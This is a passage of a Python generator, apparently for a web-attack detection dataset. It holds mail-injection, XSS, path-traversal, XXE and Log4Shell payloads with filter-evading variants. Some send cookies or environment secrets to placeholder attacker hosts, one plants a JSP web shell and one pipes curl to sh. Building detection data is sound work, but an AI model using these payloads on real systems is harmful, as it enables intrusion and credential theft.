    E("INBOX\r\nA003 FETCH 1:* (BODY[])", param="folder"),
    E("user\r\nRETR 1", param="username"),
    E("attacker@«AH»%0d%0aBcc:victim@example.com", pl=["header"], hdr="From"),
    E("x@y.example%0ABcc: a@«AH»", pl=["header"], hdr="X-Reply-To"),
    E("user@example.com\r\n\r\nInjected body text http://«AH»/"),
    E("Support <support@example.com>\r\nSender: it-helpdesk@corp.example.com", param="from"),
    E(
        "x@y.example\r\nBcc: everyone@corp.example.com",
        pl=["json"],
        jdoc=lambda S: {"to": S, "subject": "Invoice", "template": "invoice_ready"},
        path="/api/v1/share/email",
    ),
    E('subject\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"', param="subject"),
    E("a@b.example\r\nCc: c@«AH»\r\nBcc: d@«AH»"),
    E("noreply@example.com\r\nReturn-Path: <bounce@«AH»>"),
    E("Mr. Smith\nX-Priority: 1 (Highest)\nBcc: a@«AH»", param="name"),
    E("x@example.com -be ${run{/usr/bin/id}}", param="email"),
    E("victim@example.com\r\nBCC: harvest@«AH»", pl=["multipart", "form"]),
    E("me@example.com\r\nTo: all-staff@corp.example.com", pl=["cookie"], cookie="newsletter_email"),
    E("info@example.com\r\nSubject: You won\r\nBcc: x@«AH»"),
    E("<victim@example.com>\r\nRCPT TO:<x@«AH»>", param="to"),
]
MAIL_HARD = [
    E("=?UTF-8?Q?Hi=0D=0ABcc:_victim@example.com?=", param="subject"),
    E(lambda: "=?UTF-8?B?%s?=" % b64(fill("Hi\r\nBcc: x@«AH»")), param="subject"),
    E("%0d%0aBcc:spam@«AH»"),
    E("victim@example.com%0ABcc:x@«AH»"),
    E("a@b.example\rBcc: x@«AH»"),
    E("victim@example.com\r\n Bcc: x@«AH»"),
    E("victim@example.com\r\nbCc: x@«AH»"),
    E("victim@example.com\r\nBcc: x@«AH»", pl=["json"], jesc="\r\n:"),
    E("victim@example.com\r\nBcc: x@«AH»", pl=["xml"], xref="\n:@"),
    E("${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22id\\x22}}@localhost", param="recipient"),
    E('"a\\"\r\nbcc: x@«AH»"@example.com'),
    E("victim@example.com\u0085Bcc: x@«AH»"),
    E("victim@example.com\u560d\u560aBcc: x@«AH»"),
    E('"attacker\\"\t-oQ/tmp/\t-X/var/www/html/x.php\tx"@example.com', param="email"),
    E("INBOX%22%0d%0aA0002 LIST %22%22 %22*%22", param="mailbox"),
    E("x@example.com\x00\r\nBcc: y@«AH»", pl=["query", "form", "json"]),
    E("x@example.com%0d%0a%09Bcc: y@«AH»"),
    E("a@b.example%0D%0ABcc: x@«AH»", pl=["header"], hdr="From"),
    E(
        "Hi\n.\nMAIL FROM:<a@corp.example.com>\nRCPT TO:<v@example.org>\nDATA\nSubject: hi\n\nbody\n.\n",
        param="message",
    ),
    E("=?iso-8859-1?q?=0ACc=3A_x@«AH»?=", param="name"),
    E("user@example.com%0d%0aBcc: x@«AH»", pl=["cookie"], cookie="email"),
]
MAIL_SINK = dict(
    paths=[
        "/contact",
        "/api/v1/contact",
        "/newsletter/subscribe",
        "/support/ticket",
        "/share/email",
        "/invite",
        "/feedback",
        "/password/forgot",
    ],
    params=["email", "from", "to", "subject", "name", "reply_to", "cc", "message", "recipient"],
    hdrs=["From", "X-Reply-To", "X-Mail-From"],
    cookies=["email", "newsletter_email"],
    fnames=["message.txt"],
)

# ================================================================ xss

XSS_NORMAL = [
    E(x)
    for x in [
        "<script>alert(document.domain)</script>",
        '"><img src=x onerror=alert(1)>',
        "<svg onload=alert(1)>",
        "javascript:alert(document.cookie)",
        "'><iframe src=javascript:alert(1)>",
        "<body onload=fetch('//«AH»/c?'+document.cookie)>",
        "<details open ontoggle=alert(1)>",
        '<a href="javascript:alert(1)">click</a>',
        '" autofocus onfocus=alert(1) x="',
        "</textarea><script>alert(1)</script>",
        "</title><script>new Image().src='//«AH»/?c='+document.cookie</script>",
        "{{constructor.constructor('alert(1)')()}}",
        "<input onfocus=alert(1) autofocus>",
        "<video><source onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
        "<embed src=javascript:alert(1)>",
        "<form action=javascript:alert(1)><input type=submit>",
        "';alert(String.fromCharCode(88,83,83))//",
        '\\";alert(1)//',
        "<style>@import 'http://«AH»/xss.css';</style>",
        "[click me](javascript:alert(1))",
        '<img src="x" onerror="this.src=\'//«AH»/?c=\'+document.cookie">',
        "<script src=//«AH»/x.js></script>",
        '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
        '<base href="//«AH»/">',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<table background="javascript:alert(1)">',
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    ]
] + [
    E(
        '<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg" version="1.1"><script type="text/javascript">alert(document.domain);</script></svg>',
        pl=["multipart"],
        mp="content",
        fname="avatar.svg",
    ),
    E("<img src=x onerror=alert(1)>", pl=["header"], hdr="Referer"),
    E("<script>alert(1)</script>", pl=["header"], hdr="User-Agent"),
]
XSS_HARD = [
    E(x)
    for x in [
        "<ScRiPt>alert(1)</sCrIpT>",
        "<svg/onload=alert(1)>",
        "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="&#x6a;avascript:alert(1)">x</a>',
        "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
        "<svg><script>alert&#40;1&#41;</script>",
        "<img src=x onerror=\\u0061lert(1)>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
        "<x onpointerover=alert`1`>hover",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<img src=x onerror=window['al'+'ert'](1)>",
        "<img src=x onerror=top[/al/.source+/ert/.source](1)>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "<svg onload=setTimeout('al\\x65rt(1)')>",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        '<a href=" javascript:alert(1)">x</a>',
        "<img src=x onerror=import('//«AH»/x.js')>",
        "<img/src/onerror=alert(1)>",
        "<x contenteditable onblur=alert(1)>lose focus!",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ]
] + [
    E("<script>alert(document.cookie)</script>", pl=["json"], jesc="<>/"),
    E("<img src=x onerror=alert(1)>", pl=["xml"], xref="<>=()"),
]
XSS_SINK = dict(
    paths=[
        "/search",
        "/comments",
        "/profile/edit",
        "/api/v1/posts",
        "/guestbook",
        "/feedback",
        "/product/review",
        "/error",
        "/messages/send",
        "/wiki/edit",
    ],
    params=[
        "q",
        "comment",
        "name",
        "bio",
        "message",
        "title",
        "redirect",
        "callback",
        "returnUrl",
        "error",
        "text",
        "display_name",
        "s",
    ],
    hdrs=["Referer", "User-Agent", "X-Forwarded-Host", "Accept-Language", "X-Custom-Name"],
    cookies=["username", "display_name", "last_search", "theme"],
    fnames=["avatar.svg", "page.html", "note.txt"],
)

# ================================================================ path_traversal

PT_NORMAL = [
    E(x)
    for x in [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/passwd",
        "../../../../../../proc/self/environ",
        "../../WEB-INF/web.xml",
        "/var/www/../../etc/shadow",
        "../../../../var/log/apache2/access.log",
        "../config/database.yml",
        "../../.env",
        "../../../../root/.ssh/id_rsa",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "..\\..\\..\\inetpub\\wwwroot\\web.config",
        "/proc/self/cmdline",
        "php://filter/convert.base64-encode/resource=../config.php",
        "../../app/etc/env.php",
        "../../../wp-config.php",
        "../../../../../../etc/hosts",
        "/etc/shadow",
        "../../../../../../windows/system32/config/sam",
        "../../../../usr/local/etc/php.ini",
        "../../../.aws/credentials",
        "../../../../home/ubuntu/.bash_history",
        "../../../../etc/kubernetes/admin.conf",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "../../../../proc/self/fd/10",
        "../../../../../../../../etc/group",
    ]
] + [
    E(
        "../../../../var/www/html/shell.jsp",
        pl=["multipart"],
        mp="filename",
        fcontent='<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
        fctype="application/octet-stream",
    ),
    E("../../../../etc/passwd", pl=["path"], path="/static"),
    E("settings.py", pl=["path"], path="/static..", psafe="/"),
    E("../../../etc/passwd", pl=["json"], jdoc=lambda S: {"attachment": {"id": R.randint(100, 9999), "path": S}}),
]
PT_HARD = [
    E("..%2f..%2f..%2fetc%2fpasswd"),
    E("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    E("..%c0%af..%c0%af..%c0%afetc/passwd"),
    E("..%u2216..%u2216..%u2216windows%u2216win.ini"),
    E("..%5c..%5c..%5cwindows%5cwin.ini"),
    E("....//....//....//etc//passwd"),
    E("..././..././..././etc/passwd"),
    E("..\\/..\\/..\\/etc\\/passwd"),
    E("..\uff0f..\uff0f..\uff0fetc\uff0fpasswd"),
    E("..\u2215..\u2215..\u2215etc\u2215passwd"),
    E("../../../etc/passwd", pl=["path"], path="/assets", raw="%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    E("../../../../etc/passwd", pl=["path"], path="/cgi-bin", raw=".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    E(
        ".%2e/.%2e/.%2e/.%2e/etc/passwd",
        pl=["path"],
        path="/icons",
        raw=".%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
    ),
    E("..;/..;/WEB-INF/web.xml"),
    E("/etc/passwd%00.png"),
    E("../../../../etc/passwd\x00.jpg", pl=["query", "form", "json", "cookie"]),
    E("..%c1%9c..%c1%9cboot.ini"),
    E("../../../../etc/passwd", pl=["json"], jesc="./"),
    E("../../../../etc/passwd", pl=["xml"], xref="./"),
    E("/var/www/images/../../../etc/passwd"),
    E("....\\....\\windows\\win.ini"),
    E("%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
]
PT_SINK = dict(
    paths=[
        "/download",
        "/files",
        "/static",
        "/api/v1/attachments",
        "/view",
        "/image",
        "/export",
        "/assets",
        "/templates",
        "/docs",
    ],
    params=[
        "file",
        "path",
        "filename",
        "doc",
        "template",
        "page",
        "img",
        "download",
        "name",
        "folder",
        "lang",
        "include",
    ],
    hdrs=["X-File-Path", "X-Original-URL", "Referer", "X-Template"],
    cookies=["template", "lang", "theme", "last_file"],
    fnames=["manifest.txt"],
    psafe="/",
)

# ================================================================ xxe


def xxe(body_tpl, dtd_root, dtd, decl=True):
    d = '<?xml version="1.0" encoding="UTF-8"?>\n' if decl else ""
    return d + "<!DOCTYPE %s [%s]>\n" % (dtd_root, dtd) + body_tpl


XXE_NORMAL = [
    E(xxe("<foo>&xxe;</foo>", "foo", '<!ENTITY xxe SYSTEM "file:///etc/passwd">')),
    E(
        xxe(
            '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><getOrder><id>&xxe;</id></getOrder></soapenv:Body></soapenv:Envelope>',
            "soapenv:Envelope",
            '<!ENTITY xxe SYSTEM "file:///etc/hostname">',
        ),
        client="soap",
        path="/soap/OrderService",
    ),
    E(
        xxe(
            "<stockCheck><productId>&xxe;</productId><storeId>1</storeId></stockCheck>",
            "stockCheck",
            '<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">',
        )
    ),
    E(xxe("<data>test</data>", "data", '<!ENTITY % ext SYSTEM "http://«OAST»/evil.dtd"> %ext;')),
    E('<?xml version="1.0"?>\n<!DOCTYPE data SYSTEM "http://«AH»/x.dtd">\n<data>&send;</data>'),
    E(
        xxe(
            "<r>&xxe;</r>",
            "r",
            '<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">',
        )
    ),
    E(xxe("<r>&xxe;</r>", "r", '<!ENTITY xxe SYSTEM "expect://id">')),
    E(
        xxe(
            "<lolz>&lol9;</lolz>",
            "lolz",
            '<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">',
        )
    ),
    E(
        '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
        pl=["form", "json", "query"],
        param="productId",
    ),
    E(
        xxe(
            '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>',
            "test",
            '<!ENTITY xxe SYSTEM "file:///etc/hostname">',
        ),
        pl=["multipart"],
        fname="avatar.svg",
        path="/upload/svg",
    ),
    E(
        xxe(
            '<rss version="2.0"><channel><title>&xxe;</title><link>https://example.com</link><description>feed</description></channel></rss>',
            "rss",
            '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
        ),
        path="/api/feeds/validate",
    ),
    E(
        xxe(
            "<methodCall><methodName>&xxe;</methodName></methodCall>",
            "methodCall",
            '<!ENTITY xxe SYSTEM "file:///var/www/html/wp-config.php">',
        ),
        path="/xmlrpc.php",
    ),
    E(
        '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>',
        path="/api/reports/transform",
    ),
    E(
        '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function(\'system\',\'id\')"/></xsl:template></xsl:stylesheet>'
    ),
    E(
        xxe(
            "<message></message>",
            "message",
            '<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % eval "<!ENTITY &#x25; error SYSTEM \'file:///nonexistent/%file;\'>">%eval;%error;',
        )
    ),
    E(
        xxe(
            "<message>x</message>",
            "message",
            '<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>%local_dtd;',
        )
    ),
    E(xxe("<r>&xxe;</r>", "r", '<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">')),
    E(xxe("<r>&xxe;</r>", "r", '<!ENTITY xxe SYSTEM "jar:http://«AH»/evil.zip!/evil.xml">')),
    E(xxe("<r>&xxe;</r>", "r", '<!ENTITY xxe SYSTEM "gopher://127.0.0.1:25/xHELO%20localhost">')),
    E(xxe("<r>&xxe;</r>", "r", '<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">')),
    E(
        xxe(
            "<user><name>&xxe;</name><email>a@b.example</email></user>",
            "user",
            '<!ENTITY xxe SYSTEM "file:///proc/self/environ">',
        ),
        path="/api/v2/users/import",
    ),
    E(
        xxe(
            '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&xxe;</name></Placemark></kml>',
            "kml",
            '<!ENTITY xxe SYSTEM "file:///home/app/.ssh/id_rsa">',
        ),
        pl=["multipart", "xml"],
        fname="route.kml",
        path="/api/v2/kml/import",
    ),
    E(
        xxe(
            '<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&xxe;</D:displayname></D:prop></D:propfind>',
            "D:propfind",
            '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
        ),
        method="PROPFIND",
        path="/webdav/docs/",
    ),
    E(
        xxe(
            '<gpx version="1.1" creator="x"><trk><name>&xxe;</name></trk></gpx>',
            "gpx",
            '<!ENTITY xxe SYSTEM "http://«OAST»/gpx">',
        ),
        pl=["multipart"],
        fname="ride.gpx",
    ),
    E(
        xxe(
            "<invoice><number>&xxe;</number></invoice>",
            "invoice",
            '<!ENTITY % remote SYSTEM "http://«IP»/oob.dtd">%remote;%int;%trick;',
        ),
        path="/api/invoices/xml",
    ),
    E(
        xxe(
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="&xxe;"/></Types>',
            "Types",
            '<!ENTITY xxe SYSTEM "http://«OAST»/docx">',
        ),
        pl=["multipart"],
        fname="[Content_Types].xml",
    ),
    E(
        xxe("<search><q>&xxe;</q></search>", "search", '<!ENTITY xxe SYSTEM "file:///etc/shadow">'),
        pl=["query", "form"],
        param="xml",
    ),
    E(
        xxe("<r>&xxe;</r>", "r", '<!ENTITY xxe SYSTEM "http://127.0.0.1:8080/manager/status">'),
        pl=["json"],
        param="document",
    ),
    E(
        xxe("<config><db>&xxe;</db></config>", "config", '<!ENTITY xxe SYSTEM "file:///var/www/app/.env">'),
        path="/services/Catalog",
    ),
    E(xxe("<r>&a;</r>", "r", '<!ENTITY % dtd SYSTEM "ftp://«IP»:2121/x.dtd">%dtd;')),
]


def utf7_strict(s):
    direct = set(string.ascii_letters + string.digits + " '(),-./:?\n")
    out, run = [], ""
    for c in s + "\0":
        if c != "\0" and c not in direct:
            run += c
            continue
        if run:
            out.append("+" + base64.b64encode(run.encode("utf-16-be")).decode().rstrip("=") + "-")
            run = ""
        if c != "\0":
            out.append(c)
    return "".join(out)


def xxe_utf7():
    doc = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'
    enc = utf7_strict(doc)
    assert enc.encode().decode("utf-7") == doc
    return '<?xml version="1.0" encoding="UTF-7"?>\n' + enc


def xxe_saml():
    doc = xxe(
        '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&xxe;</saml:Issuer></samlp:Response>'
        % rhex(32),
        "samlp:Response",
        '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
    )
    return b64(doc)


XXE_HARD = [
    E(xxe_utf7, ctype="application/xml; charset=UTF-7"),
    E(xxe("<r>x</r>", "r", '<!ENTITY &#x25; ext SYSTEM "http://«OAST»/a.dtd"> %ext;')),
    E(
        '<?xml version="1.0"?>\n<!DOCTYPE r PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://«AH»/docbook.dtd">\n<r>&x;</r>'
    ),
    E(
        "<?xml version='1.0'?>\n<!DOCTYPE\n  r\n  [\n    <!ENTITY\n      x\n      SYSTEM\n      'file:///etc/passwd'\n    >\n  ]\n>\n<r>&x;</r>"
    ),
    E(xxe("<r>&x;</r>", "r", '<!ENTITY x SYSTEM "file:/etc/passwd">')),
    E(xxe("<r>&x;</r>", "r", '<!ENTITY x SYSTEM "file://localhost/etc/passwd">')),
    E(xxe("<r>&x;</r>", "r", '<!ENTITY x SYSTEM "netdoc:/etc/passwd">')),
    E(
        '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text" encoding="UTF-8"><xi:fallback>none</xi:fallback></xi:include></r>'
    ),
    E(xxe_saml, pl=["form"], param="SAMLResponse", path="/saml/acs", f=[("RelayState", "/dashboard")]),
    E(xxe("<r>&xxe;</r>", "r", '<!ENTITY xxe SYSTEM "file:///etc/passwd">'), pl=["json"], jesc="<>!", param="xml"),
    E(
        '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="http://«AH»/steal.xsl"?>\n<invoice><id>1</id></invoice>'
    ),
    E(
        '<?xml version="2.0"?>\n<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="unparsed-text(\'file:///etc/passwd\',\'utf-8\')"/></xsl:template></xsl:stylesheet>'
    ),
    E(xxe("<r>&\u1e8bxe;</r>", "r", '<!ENTITY \u1e8bxe SYSTEM "file:///etc/passwd">')),
    E(
        xxe(
            "<r>&all;</r>",
            "r",
            '<!ENTITY % start "<![CDATA["><!ENTITY % file SYSTEM "file:///etc/fstab"><!ENTITY % end "]]>"><!ENTITY % dtd SYSTEM "http://«OAST»/join.dtd">%dtd;',
        )
    ),
    E("\ufeff" + xxe("<r>&x;</r>", "r", '<!ENTITY x SYSTEM "file:///etc/passwd">')),
    E(
        '<order xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:orders http://«OAST»/orders.xsd"><id>1</id></order>'
    ),
    E(
        lambda: xxe(
            "<r>&x;</r>",
            "r",
            '<!ENTITY %% d SYSTEM "data://text/plain;base64,%s">%%d;' % b64('<!ENTITY x SYSTEM "file:///etc/passwd">'),
        )
    ),
    E('<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "\\\\«IP»\\share\\r.dtd">\n<r>&x;</r>'),
    E(xxe("<r>&x;</r>", "r", '<!ENTITY x SYSTEM "fi&#x6c;e:///etc/passwd">')),
    E(
        xxe(
            '<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Header><wsse:Security xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">&x;</wsse:Security></soap:Header><soap:Body/></soap:Envelope>',
            "soap:Envelope",
            '<!ENTITY x SYSTEM "http://169.254.169.254/latest/user-data">',
        ),
        client="soap",
    ),
    E(xxe("<r>&x;</r>", "r", '<!ENTITY x SYSTEM "file:///etc/passwd">'), pl=["multipart"], fname="invoice.xlsx.xml"),
]
XXE_SINK = dict(
    default_pl=["xml"],
    paths=[
        "/api/v1/import",
        "/soap/OrderService",
        "/xmlrpc.php",
        "/api/feeds/validate",
        "/saml/acs",
        "/upload/svg",
        "/api/invoices/xml",
        "/services/Catalog",
        "/api/v2/kml/import",
        "/api/orders/xml",
    ],
    params=["xml", "data", "feed", "document", "payload"],
    hdrs=["X-Xml"],
    cookies=["xml"],
    fnames=["import.xml", "data.xml", "feed.xml"],
)
for _e in XXE_NORMAL + XXE_HARD:
    _e["doc"] = True

# ================================================================ log4shell

L4_NORMAL = [
    E(x)
    for x in [
        "${jndi:ldap://«IP»:1389/a}",
        "${jndi:ldap://«OAST»/a}",
        "${jndi:rmi://«IP»:1099/Exploit}",
        "${jndi:dns://«OAST»}",
        "${jndi:ldaps://«OAST»/x}",
        "${jndi:iiop://«IP»:900/x}",
        "${jndi:corba://«IP»/x}",
        "${jndi:nds://«IP»/x}",
        "${jndi:http://«AH»/x}",
        "${jndi:ldap://«OAST»/${sys:java.version}}",
        "${jndi:ldap://${hostName}.«OAST»/a}",
        "${jndi:ldap://127.0.0.1#«OAST»:1389/a}",
        "${jndi:rmi://«IP»:1099/jdk8u}",
        "${jndi:ldap://«OAST»/${env:AWS_SECRET_ACCESS_KEY}}",
        "${jndi:dns://«OAST»/${java:version}}",
        "${jndi:ldap://«OAST»/${ctx:loginId}}",
        "${jndi:ldap://x${date:MM-dd-yyyy}.«OAST»/a}",
        "${jndi:ldap://«IP»:1389/o=tomcat}",
        "${jndi:ldap://«OAST»/${main:0}}",
        "${jndi:ldap://«IP»:1389/Basic/ReverseShell/«IP»/4444}",
    ]
] + [
    E(
        lambda: (
            "${jndi:ldap://%s:1389/Basic/Command/Base64/%s}"
            % (R.choice(ATTACKER_IPS), b64(fill("curl http://«AH»/l.sh|sh")))
        )
    ),
    E(lambda: "${jndi:ldap://%s:1389/TomcatBypass/Command/Base64/%s}" % (R.choice(ATTACKER_IPS), b64(cmd()))),
    E("${jndi:ldap://«OAST»/a}", pl=["header"], hdr="User-Agent"),
    E("${jndi:ldap://«OAST»/api}", pl=["header"], hdr="X-Api-Version"),
    E("${jndi:ldap://«OAST»/ref}", pl=["header"], hdr="Referer"),
    E("${jndi:rmi://«IP»:1099/xff}", pl=["header"], hdr="X-Forwarded-For"),
    E("Bearer ${jndi:ldap://«OAST»/auth}", pl=["header"], hdr="Authorization"),
    E("${jndi:ldap://«OAST»/c}", pl=["cookie"]),
    E("admin${jndi:ldap://«OAST»/u}", param="username"),
    E("${jndi:ldap://«OAST»/${env:USER}}", pl=["json_key", "query_key"]),
    E("${jndi:ldap://«OAST»/m}", pl=["multipart"], mp="filename"),
]
L4_HARD = [
    E(x)
    for x in [
        "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://«OAST»/a}",
        "${${upper:j}${upper:n}${lower:d}i:ldap://«OAST»/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://«OAST»/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//«OAST»/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://«OAST»/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//«OAST»/a}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://«OAST»/a}",
        "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://«OAST»/a}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://«OAST»/a}",
        "${jnd${123%25ff:-${123%25ff:-i:}}ldap://«OAST»/a}",
        "%24%7Bjndi:ldap://«OAST»/a%7D",
        "${jndi:${lower:rmi}://«IP»:1099/a}",
        "${${::-${::-$${::-j}}}}",
        "$%7Bjndi:ldap://«OAST»/a%7D",
        "${j${sys:sun.cpu.isalist}ndi:ldap://«OAST»/a}",
        "${${sys:sun.cpu.isalist}jndi:ldap://«OAST»/a}",
        "${jn${lower:D}i:l${lower:D}ap://«OAST»/a}",
    ]
] + [
    E(lambda: "${base64:%s}" % b64(fill("${jndi:ldap://«OAST»/a}"))),
    E("${jndi:ldap://«OAST»/a}", pl=["json"], jesc="${}:"),
    E("${jndi:ldap://«OAST»/a}", pl=["xml"], xref="${}:"),
    E(
        "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}://«IP»:1099/x}",
        pl=["header"],
        hdr="X-Api-Version",
    ),
]
L4_SINK = dict(
    paths=[
        "/",
        "/login",
        "/api/v1/search",
        "/api/events",
        "/solr/admin/cores",
        "/websso/SAML2/SSO",
        "/api/v2/users",
        "/hello",
        "/mifs/j_spring_security_check",
        "/support/chat",
    ],
    params=["q", "username", "user", "search", "action", "id", "name", "email", "x", "lang", "callback", "token"],
    hdrs=[
        "User-Agent",
        "X-Api-Version",
        "Referer",
        "X-Forwarded-For",
        "X-Client-IP",
        "Accept-Language",
        "X-Request-Id",
        "Origin",
        "If-Modified-Since",
        "True-Client-IP",
        "Contact",
        "X-Wap-Profile",
    ],
    cookies=["JSESSIONID", "lang", "remember", "uid"],
    fnames=["app.log", "notes.txt"],
)

ATTACKS = [
    ("java_injection", JAVA_NORMAL, JAVA_HARD, JAVA_SINK, True),
    ("php_injection", PHP_NORMAL, PHP_HARD, PHP_SINK, True),
    ("code_injection", CODE_NORMAL, CODE_HARD, CODE_SINK, True),
    ("rfi", RFI_NORMAL, RFI_HARD, RFI_SINK, False),
    ("ssrf", SSRF_NORMAL, SSRF_HARD, SSRF_SINK, False),
    ("rce", RCE_NORMAL, RCE_HARD, RCE_SINK, True),
    ("sqli", SQLI_NORMAL, SQLI_HARD, SQLI_SINK, True),
    ("nosqli", NOSQLI_NORMAL, NOSQLI_HARD, NOSQLI_SINK, False),
    ("ldapi", LDAP_NORMAL, LDAP_HARD, LDAP_SINK, False),
    ("ssti", SSTI_NORMAL, SSTI_HARD, SSTI_SINK, True),
    ("crlf", CRLF_NORMAL, CRLF_HARD, CRLF_SINK, True),
    ("mail_injection", MAIL_NORMAL, MAIL_HARD, MAIL_SINK, False),
    ("xss", XSS_NORMAL, XSS_HARD, XSS_SINK, True),
    ("path_traversal", PT_NORMAL, PT_HARD, PT_SINK, False),
    ("xxe", XXE_NORMAL, XXE_HARD, XXE_SINK, False),
    ("log4shell", L4_NORMAL, L4_HARD, L4_SINK, True),
]


# ================================================================ benign traffic

FIRST = [
    "Amara",
    "Liam",
    "Sofia",
    "Kenji",
    "Priya",
    "Mateo",
    "Chloé",
    "Oluwaseun",
    "Freya",
    "Diego",
    "Mei",
    "Jonas",
    "Aisha",
    "Lukas",
    "Inês",
    "Tomasz",
    "Yuki",
    "Noah",
    "Zanele",
    "Hannah",
    "Björn",
    "Camila",
    "Ravi",
    "Elif",
    "Marta",
    "Sipho",
    "Léa",
    "Arjun",
]
LAST = [
    "Nakamura",
    "García",
    "Okafor",
    "Müller",
